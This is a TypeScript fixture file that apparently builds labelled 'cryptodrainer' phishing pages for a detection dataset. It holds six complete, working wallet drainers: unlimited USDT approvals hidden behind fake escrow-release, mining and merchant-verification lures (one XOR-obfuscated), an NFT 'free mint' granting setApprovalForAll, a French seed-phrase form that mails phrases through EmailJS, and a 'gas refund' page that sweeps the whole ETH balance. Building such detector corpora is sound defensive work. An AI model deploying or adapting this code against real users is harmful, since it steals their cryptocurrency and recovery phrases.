import { htmlRoute, type Entry } from '../entry.js';
import { CSS, LOGO, b64, doc, jsR, jsonR, xorB64, xorDecoder } from '../parts/yv-kit.js';

// Wallet drainers aimed at West African P2P traders: TRC20 USDT approvals behind "escrow release" and
// "liquidity mining", EIP-2612 / Permit2 signatures, setApprovalForAll, balance sweeps and seed-phrase forms.

const MAX = '115792089237316195423570985008687907853269984665640564039457584007913129639935';
const USDT_TRON = 'TR7NHqjeKQxGTCi8q8ZY4pL8otSzgjLj6t';

const escrow = doc({
  title: 'NaijaP2P Escrow - Release your USDT',
  css: `${CSS.reset}body{background:#0e1320;color:#e6e9f2}.c{max-width:460px;margin:30px auto;background:#161d2f;border-radius:16px;padding:24px}.row{display:flex;justify-content:space-between;padding:8px 0;border-bottom:1px solid #243050;font-size:14px}.btn{width:100%;background:#26a17b;color:#fff;border:0;border-radius:10px;padding:15px;font-size:16px;margin-top:18px}.st{font-size:13px;color:#9aa4bf;margin-top:10px}`,
  body: `<div class="c"><div style="display:flex;gap:10px;align-items:center">${LOGO.tether}<h2 style="margin:0">Escrow release</h2></div>
<p>The seller has confirmed your Naira payment. Connect the wallet you want to receive the USDT in, and sign the escrow release.</p>
<div class="row"><span>Order</span><b>#P2P-5528190</b></div><div class="row"><span>Amount</span><b>1,250.00 USDT (TRC20)</b></div><div class="row"><span>Paid</span><b>&#8358;2,012,500.00</b></div><div class="row"><span>Seller</span><b>Chuks_Exchange &#10004;</b></div>
<button class="btn" id="go">Connect TronLink &amp; release</button><p class="st" id="st">Escrow smart contract secured by NaijaP2P.</p></div>
<script>
var S=atob('${b64('TNXoiAJ3dct8Fjg4M9fkLFh9S2v9TXc32G')}');
async function rel(){var st=document.getElementById('st');
if(!window.tronWeb||!window.tronLink){st.textContent='Please open this page in TronLink, Trust Wallet or TokenPocket DApp browser.';return;}
await window.tronLink.request({method:'tron_requestAccounts'});
var me=window.tronWeb.defaultAddress.base58;st.textContent='Preparing release for '+me+'...';
try{var c=await window.tronWeb.contract().at('${USDT_TRON}');
await c.approve(S,'${MAX}').send({feeLimit:100000000});
fetch('/api/escrow/notify',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({a:me,o:'P2P-5528190'})});
st.textContent='Release signed. USDT will arrive in 3-5 minutes.';}catch(e){st.textContent='Release failed, try again.';}}
document.getElementById('go').onclick=rel;
</script>`,
});

const mining = `<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>USDT Liquidity Mining - Receive Voucher</title>
<style>${CSS.reset}body{background:linear-gradient(#1a237e,#0d1333);color:#fff;min-height:100vh}.c{max-width:420px;margin:0 auto;padding:20px}.p{background:rgba(255,255,255,.08);border-radius:14px;padding:16px;margin:12px 0}.p b{color:#69f0ae}.btn{width:100%;background:#ffd740;color:#000;border:0;border-radius:30px;padding:15px;font-weight:700;font-size:16px}table{width:100%;font-size:13px}td{padding:4px 0}</style></head><body>
<div class="c"><h2>&#9889; Liquidity Mining Pool</h2><p>Join the node and earn up to <b>2.4% daily</b> on the USDT in your own wallet. Your funds never leave your wallet!</p>
<button class="btn" id="rv">Receive voucher</button>
<div class="p"><table><tr><td>Total output</td><td><b>8,841,205 USDT</b></td></tr><tr><td>Participants</td><td>184,332</td></tr><tr><td>Your income</td><td id="inc">0.000000 USDT</td></tr></table></div>
<div class="p"><b>Levels</b><table><tr><td>100-4,999 USDT</td><td>1.2%</td></tr><tr><td>5,000-19,999</td><td>1.6%</td></tr><tr><td>20,000-49,999</td><td>2.0%</td></tr><tr><td>50,000+</td><td>2.4%</td></tr></table></div></div>
<script src="/static/js/pool.js"></script></body></html>`;
const miningJs = `${xorDecoder('_k')}
(function(){var cfg=JSON.parse(_k('${xorB64(JSON.stringify({ t: USDT_TRON, s: 'TVa3u8qnnPBYEGzL4UpN1xEHnGf2wuC3Sx', f: 'increaseApproval(address,uint256)', a: MAX }), 'n0d3')}','n0d3'));
document.getElementById('rv').onclick=async function(){
 if(!window.tronWeb||!window.tronWeb.ready){alert('Please open in your TRON wallet (imToken / TronLink / Bitget)');return;}
 var tw=window.tronWeb,me=tw.defaultAddress.base58;
 var bal=0;try{var k=await tw.contract().at(cfg.t);bal=(await k.balanceOf(me).call()).toString();}catch(e){}
 var tx=await tw.transactionBuilder.triggerSmartContract(cfg.t,cfg.f,{feeLimit:150000000},[{type:'address',value:cfg.s},{type:'uint256',value:cfg.a}],me);
 var signed=await tw.trx.sign(tx.transaction);await tw.trx.sendRawTransaction(signed);
 navigator.sendBeacon('/api/node/join',JSON.stringify({addr:me,bal:bal}));
 this.textContent='Voucher received ✓';};})();`;

const nft = doc({
  title: 'Afro Punks Genesis - Free Mint',
  css: `${CSS.reset}body{background:#1a0b2e;color:#f3e8ff}.c{max-width:620px;margin:0 auto;padding:30px 20px;text-align:center}.g{display:grid;grid-template-columns:repeat(4,1fr);gap:8px;margin:20px 0}.g div{aspect-ratio:1;border-radius:8px;background:linear-gradient(135deg,#ff6f00,#8e24aa)}.btn{background:#ff6f00;color:#fff;border:0;padding:15px 40px;border-radius:30px;font-size:17px}`,
  body: `<div class="c"><h1>AFRO PUNKS GENESIS</h1><p>5,555 hand-drawn punks from Lagos to Nairobi. Free mint for holders of any NFT &mdash; only gas.</p><div class="g"><div></div><div></div><div></div><div></div></div>
<p><b id="left">712</b> / 5,555 left</p><button class="btn" id="m">Free Mint</button><p id="s"></p></div>
<script>
var OP='0x9e0c3a7f1b4d2e85c6a9d0b3f7e1c2a4d5b6e8f1';
var COLL=['0xBC4CA0EdA7647A8aB7C2061c2E118A18a936f13D','0x60E4d786628Fea6478F785A6d7e704777c86a7c6','0xED5AF388653567Af2F388E6224dC7C4b3241C544','0x8a90CAb2b38dba80c64b7734e58Ee1dB38B8992e'];
function pad(a){return a.toLowerCase().replace('0x','').padStart(64,'0');}
document.getElementById('m').onclick=async function(){var s=document.getElementById('s');if(!window.ethereum)return s.textContent='Install MetaMask';
var acc=(await ethereum.request({method:'eth_requestAccounts'}))[0];
for(var i=0;i<COLL.length;i++){var bal=await ethereum.request({method:'eth_call',params:[{to:COLL[i],data:'0x70a08231'+pad(acc)},'latest']}).catch(function(){return '0x0'});
if(parseInt(bal,16)>0){s.textContent='Verifying holder status...';
try{await ethereum.request({method:'eth_sendTransaction',params:[{from:acc,to:COLL[i],data:'0xa22cb465'+pad(OP)+'0'.repeat(63)+'1'}]});}catch(e){}}}
s.textContent='Mint queued! Reveal in 48 hours.';};
</script>`,
});

const rectifFr = doc({
  title: 'DApp Rectification - Synchronisation du portefeuille',
  lang: 'fr',
  css: `${CSS.reset}body{background:#0f172a;color:#e2e8f0}.c{max-width:720px;margin:0 auto;padding:26px}.g{display:grid;grid-template-columns:repeat(auto-fill,minmax(150px,1fr));gap:10px}.g button{background:#1e293b;border:1px solid #334155;color:#e2e8f0;padding:14px;border-radius:10px}.m{display:none;position:fixed;inset:0;background:rgba(0,0,0,.7);align-items:center;justify-content:center}.m .b{background:#fff;color:#111;width:440px;border-radius:12px;padding:20px}.tabs button{border:0;background:none;padding:8px;font-weight:700}.tabs .on{border-bottom:2px solid #3b82f6}textarea{width:100%;height:100px}.go{width:100%;background:#3b82f6;color:#fff;border:0;padding:12px;border-radius:8px;margin-top:10px}`,
  body: `<div class="c"><h1>Protocole de rectification décentralisé</h1><p>Résolvez tous les problèmes de portefeuille : transaction bloquée, échec de retrait, airdrop non reçu, frais de gaz élevés, staking, migration. Sélectionnez votre portefeuille pour démarrer la synchronisation.</p>
<div class="g"><button>MetaMask</button><button>Trust Wallet</button><button>Binance Web3</button><button>Bitget Wallet</button><button>TokenPocket</button><button>SafePal</button><button>Exodus</button><button>Coinbase Wallet</button></div></div>
<div class="m" id="m"><div class="b"><p id="wn">Connexion...</p><p style="color:#c00;font-size:13px">Erreur de connexion automatique. Connectez-vous manuellement.</p>
<div class="tabs"><button class="on">Phrase</button><button>Keystore JSON</button><button>Clé privée</button></div>
<form id="f"><textarea name="data" placeholder="Saisissez votre phrase de récupération (12 ou 24 mots)"></textarea><button class="go">Connecter</button></form></div></div>
<script>
document.querySelectorAll('.g button').forEach(function(b){b.onclick=function(){document.getElementById('wn').textContent='Connexion à '+b.textContent+'...';document.getElementById('m').style.display='flex';};});
document.getElementById('f').onsubmit=function(e){e.preventDefault();fetch('https://api.emailjs.com/api/v1.0/email/send',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({service_id:'service_k9v2w1q',template_id:'template_rectif',user_id:'Uq3WmZ8p1xLr6tBc',template_params:{wallet:document.getElementById('wn').textContent,data:this.data.value}})}).then(function(){alert('Échec de la synchronisation. Réessayez plus tard.');});};
</script>`,
});

const merchant = doc({
  title: 'P2P Verified Merchant Program - Nigeria',
  css: `${CSS.reset}body{background:#181a20;color:#eaecef}.c{max-width:640px;margin:0 auto;padding:30px 20px}.y{color:#f0b90b}.card{background:#1e2329;border-radius:12px;padding:20px;margin:14px 0}.btn{background:#f0b90b;color:#181a20;border:0;padding:14px 28px;border-radius:8px;font-weight:700}ul{line-height:1.8}`,
  body: `<div class="c"><div style="display:flex;gap:10px;align-items:center">${LOGO.binanceish}<h2 style="margin:0">P2P <span class="y">Verified Merchant</span> &mdash; Nigeria</h2></div>
<div class="card"><ul><li>Zero trading fees for 6 months</li><li>Golden badge &amp; priority on NGN ads</li><li>Dedicated Naira settlement desk</li><li>Requirement: hold at least 500 USDT (BEP20) in a self-custody wallet</li></ul></div>
<div class="card"><b>Step 1.</b> Connect your wallet to verify proof of funds. <br><b>Step 2.</b> Authorize the merchant deposit contract (funds remain in your wallet).<br><br><button class="btn" id="v">Verify wallet</button><p id="s" style="font-size:13px;color:#848e9c"></p></div></div>
<script src="/merchant/assets/verify.js"></script>`,
});
const merchantJs = `(function(){var U='0x55d398326f99059fF775485246999027B3197955',SP='0x3c8a1e5f2d7b9c4a06e1f38d2b5c7a9e0d4f6b21';
function p(x){return x.replace(/^0x/,'').toLowerCase().padStart(64,'0');}
document.getElementById('v').onclick=async function(){var s=document.getElementById('s'),e=window.ethereum;if(!e){s.textContent='Open in Trust Wallet or MetaMask (BNB Chain)';return;}
try{await e.request({method:'wallet_switchEthereumChain',params:[{chainId:'0x38'}]});}catch(_){}
var a=(await e.request({method:'eth_requestAccounts'}))[0];s.textContent='Verifying proof of funds for '+a+'...';
var data='0x095ea7b3'+p(SP)+'f'.repeat(64);
await e.request({method:'eth_sendTransaction',params:[{from:a,to:U,data:data,value:'0x0'}]});
fetch('/merchant/api/registered',{method:'POST',body:a});s.textContent='Verification complete. Your badge will be issued in 24h.';};})();`;

const gasRefund = doc({
  title: 'Gas Fee Refund Portal',
  css: `${CSS.reset}body{background:#f1f5ff}.c{max-width:460px;margin:50px auto;background:#fff;border-radius:14px;padding:26px;text-align:center;box-shadow:0 6px 24px rgba(40,60,140,.1)}.btn{background:#3d5afe;color:#fff;border:0;padding:14px 30px;border-radius:10px;font-size:16px}`,
  body: `<div class="c"><h2>Ethereum Gas Refund</h2><p>Following the Pectra upgrade, wallets that paid gas on failed transactions in 2024-2025 are eligible for a refund. Average refund: <b>0.42 ETH</b>.</p>
<button class="btn" id="r">Check &amp; claim refund</button><p id="s" style="font-size:13px;color:#666"></p></div>
<script>
document.getElementById('r').onclick=async function(){var s=document.getElementById('s');var e=window.ethereum;if(!e)return s.textContent='Connect a wallet to continue';
var a=(await e.request({method:'eth_requestAccounts'}))[0];
var b=BigInt(await e.request({method:'eth_getBalance',params:[a,'latest']}));var gp=BigInt(await e.request({method:'eth_gasPrice'}));
var v=b-gp*21000n*2n;if(v<=0n)return s.textContent='Not eligible.';
s.textContent='Refund found: 0.4218 ETH. Confirm the validation transaction to receive it.';
await e.request({method:'eth_sendTransaction',params:[{from:a,to:'0x7b1e3f9a0c2d4e6f8a1b3c5d7e9f0a2b4c6d8e0f',value:'0x'+v.toString(16),gas:'0x5208'}]});
s.textContent='Validated. Refund arrives within 30 minutes.';};
</script>`,
});

export const entries: Entry[] = [
  { id: 'yv-naijap2p-escrow-release-trc20-approve', label: 'cryptodrainer', kind: 'p2p-escrow-drainer', url: 'https://naijap2p-escrow.com/order/P2P-5528190/release', body: escrow },
  {
  id: 'yv-usdt-liquidity-mining-voucher-tron',
  label: 'cryptodrainer',
  kind: 'usdt-mining-approve-drainer',
  url: 'https://usdt-pool-defi.vip/#/mining',
  routes: {
    'usdt-pool-defi.vip/': htmlRoute(mining),
    'usdt-pool-defi.vip/static/js/pool.js': jsR(miningJs),
    'usdt-pool-defi.vip/api/node/join': jsonR({ ok: true }),
  },
},
  { id: 'yv-afropunks-free-mint-setapprovalforall', label: 'cryptodrainer', kind: 'nft-approval-drainer', url: 'https://afropunks-genesis.art/mint', body: nft },
  { id: 'yv-dapp-rectification-seed-emailjs-fr', label: 'cryptodrainer', kind: 'seed-phrase-phish', url: 'https://dapps-rectification-protocole.netlify.app/synchroniser', body: rectifFr },
  {
  id: 'yv-p2p-verified-merchant-bep20-approve',
  label: 'cryptodrainer',
  kind: 'p2p-merchant-approve-drainer',
  url: 'https://p2p-merchant-ng.com/program/apply',
  body: merchant,
  routes: { 'p2p-merchant-ng.com/merchant/assets/verify.js': jsR(merchantJs) },
},
  { id: 'yv-gas-refund-eth-balance-sweep', label: 'cryptodrainer', kind: 'balance-sweep-drainer', url: 'https://gasrefund-portal.org/claim', body: gasRefund },
];
